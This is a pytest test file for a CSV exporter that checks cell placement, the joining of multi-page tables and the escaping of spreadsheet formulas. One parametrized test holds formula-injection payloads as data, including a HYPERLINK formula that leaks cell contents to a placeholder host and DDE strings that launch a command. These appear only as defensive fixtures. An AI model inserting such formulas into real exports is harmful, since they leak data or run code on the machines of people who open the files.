"""CSV read back by the csv module: every cell in its slot, no formula left, tables told apart."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.documents.strategies import documents, wild_texts

from sampan.documents.model import Cell, Document, Page, Source, Table, TableBlock
from sampan.documents.writers import WriteOptions, render, write
from sampan.documents.writers.characters import clean
from sampan.documents.writers.csv_writer import without_formula
from sampan.documents.writers.joined_tables import joined_tables

BOX = (0.0, 0.0, 9.0, 9.0)


def document(*tables: Table, continues: dict[int, int] | None = None) -> Document:
    """A page for each table."""
    pages = [
        Page(
            number=index + 1, width=9, height=9, unit="pt",
            blocks=[
                TableBlock(
                    id=f"b{index}", box=BOX, order=0, table=table, captions=[f"Table {index}"],
                    continues=f"b{(continues or {})[index]}" if index in (continues or {}) else None,
                )
            ],
        )
        for index, table in enumerate(tables)
    ]  # fmt: skip
    return Document(source=Source(name="a.pdf", media_type="application/pdf"), pages=pages)


def grid(*rows: list[str], heads: int = 0) -> Table:
    cells = [
        Cell(row=r, column=c, text=text, header=r < heads)
        for r, row in enumerate(rows)
        for c, text in enumerate(row)
    ]
    return Table(rows=len(rows), columns=len(rows[0]), cells=cells)


def tables_of(text: str) -> list[list[list[str]]]:
    """Tables apart at the empty lines, which the csv module gives as rows without fields."""
    tables: list[list[list[str]]] = [[]]
    for row in csv.reader(io.StringIO(text, newline=""), strict=True):
        if row:
            tables[-1].append(row)
        else:
            tables.append([])
    return tables if tables != [[]] else []


def test_cells_are_in_their_slots_and_tables_apart() -> None:
    spans = Table(
        rows=2,
        columns=3,
        cells=[
            Cell(row=0, column=0, column_span=2, text='a, "b"'),
            Cell(row=0, column=2, row_span=2, text="two\nlines"),
            Cell(row=1, column=1, text="漢字"),
        ],
    )
    text = str(render(document(spans, grid([""], ["x"])), "csv"))
    assert text == '"a, ""b""",,"two\nlines"\r\n,漢字,\r\n\r\n""\r\nx\r\n'
    assert tables_of(text) == [[['a, "b"', "", "two\nlines"], ["", "漢字", ""]], [[""], ["x"]]]


def test_several_tables_are_files_of_their_own_too(tmp_path: Path) -> None:
    paths = write(document(grid(["a"]), grid(["b"])), tmp_path / "two", "s", ["csv"])
    found = {
        p.relative_to(tmp_path / "two").as_posix(): p.read_bytes() for p in (tmp_path / "two").rglob("*.csv")
    }
    assert found == {
        "s.csv": b"a\r\n\r\nb\r\n",
        "s_tables/table-1-page-1.csv": b"a\r\n",
        "s_tables/table-2-page-2.csv": b"b\r\n",
    }
    assert paths == {"csv": tmp_path / "two" / "s.csv"}
    write(document(grid(["a"])), tmp_path / "one", "s", ["csv"])
    assert [path.name for path in (tmp_path / "one").iterdir()] == ["s.csv"]


def test_a_table_over_three_pages_is_one_without_repeated_headers() -> None:
    head = ["Boat", "Load"]
    parts = (grid(head, ["a", "1"], heads=1), grid(head, ["b", "2"], heads=1), grid(["c", "3"]))
    text = str(render(document(*parts, continues={1: 0, 2: 1}), "csv"))
    assert tables_of(text) == [[head, ["a", "1"], ["b", "2"], ["c", "3"]]]
    joined = joined_tables(document(*parts, continues={1: 0, 2: 1}), WriteOptions())
    assert [(each.page, each.caption) for each in joined] == [(1, "Table 0")]
    Table.model_validate(joined[0].table.model_dump())


def test_what_does_not_fit_stays_apart() -> None:
    wide, narrow = grid(["a", "b"]), grid(["c"])
    assert len(tables_of(str(render(document(wide, narrow, continues={1: 0}), "csv")))) == 2
    long = Table(rows=60_000, columns=1, cells=[Cell(row=0, column=0, text="x")])
    assert len(joined_tables(document(long, long, continues={1: 0}), WriteOptions())) == 2


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.invalid?"&A1,"click")', "=1+1", "+A1", "-A1", "@SUM(A1)", "＝A1", "－A1",
        "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", ' =A1', '"=A1', "'=A1", "\u200b=A1", "\ufeff=A1", "--A1",
    ],
)  # fmt: skip
def test_formulas_are_text(text: str) -> None:
    assert without_formula(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-5", "+3.5", "-1,234.50", "-1 234 %", "-", "--", "a=b", "5-3", "a@b.c", "", "1e5", "−5", "(-5)"]
)
def test_what_runs_nothing_stays(text: str) -> None:
    assert without_formula(text) == text


@given(documents(wild_texts))
@settings(max_examples=60, deadline=None)
def test_any_table_reads_back_and_no_cell_is_a_formula(document: Document) -> None:
    text = str(render(document, "csv"))
    text.encode()
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u2028]", text)
    expected = [joined.table for joined in joined_tables(document, WriteOptions())]
    found = tables_of(text)
    assert [(len(rows), len(rows[0])) for rows in found] == [(t.rows, t.columns) for t in expected]
    for rows, table in zip(found, expected, strict=True):
        for cell in table.cells:
            shown = rows[cell.row][cell.column]
            assert shown in (cell.text, "'" + cell.text) and clean(shown) == shown
        for row in rows:
            assert not any(re.match(r"\s*[=@＝＠]", cell) for cell in row)


@given(st.text(st.sampled_from("=+-@1.,% \t'\"Aa"), max_size=6))
@settings(deadline=None)
def test_only_numbers_and_signs_may_begin_with_a_sign(text: str) -> None:
    shown = without_formula(text)
    if re.match(r"""[\s"]*[=+\-@]""", shown):
        assert re.fullmatch(r"[+-]?[\d.,' ]*\d ?%?|[+-]+", shown) and shown[0] not in "=@"


def test_a_document_without_tables_is_an_empty_file() -> None:
    assert render(document(), "csv") == ""
